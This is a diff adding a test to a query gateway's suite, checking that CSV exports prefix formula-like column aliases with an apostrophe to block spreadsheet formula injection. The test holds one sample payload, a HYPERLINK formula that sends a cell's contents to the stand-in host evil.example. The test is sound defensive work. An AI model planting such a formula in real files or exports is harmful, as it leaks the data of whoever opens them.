@@ -105,6 +105,27 @@ async def test_a_query_job_answers_202_then_the_synchronous_answer_charged_once(
     assert 'enclave_jobs_total{kind="query",state="done"} 1.0' in metrics
 
 
+async def test_a_job_csv_cannot_carry_a_spreadsheet_formula(make_gateway: Any) -> None:
+    """An alias (or a category value) that a spreadsheet would run as a formula is written
+    with a leading apostrophe, as in the audit export; numbers are written as they are."""
+    gw = await make_gateway(jobs=JOBS)
+    await gw.licence()
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"ok")'
+    quoted = formula.replace('"', '""')
+    aliases = f'COUNT(*) AS "{quoted}", SUM(cost) AS "@total"'
+    sql = f"SELECT region, {aliases} FROM visits GROUP BY region"  # noqa: S608
+    resp = await _submit(gw, sql)
+    assert resp.status == 202, await resp.text()
+    done = await _wait(gw, (await resp.json())["status_url"])
+    assert done["state"] == "done", done
+    got = await gw.client.get(done["result"]["files"]["csv"], headers=gw.auth())
+    header, *rows = (await got.text()).splitlines()
+    assert header == "region,\"'" + quoted + "\",'@total"
+    for row in rows:  # the counts and sums are numbers: no apostrophe
+        float(row.split(",")[1])
+        float(row.split(",")[2])
+
+
 async def test_a_refused_query_job_costs_nothing_and_answers_at_once(make_gateway: Any) -> None:
     gw = await make_gateway(jobs=JOBS)
     lic = await gw.licence()
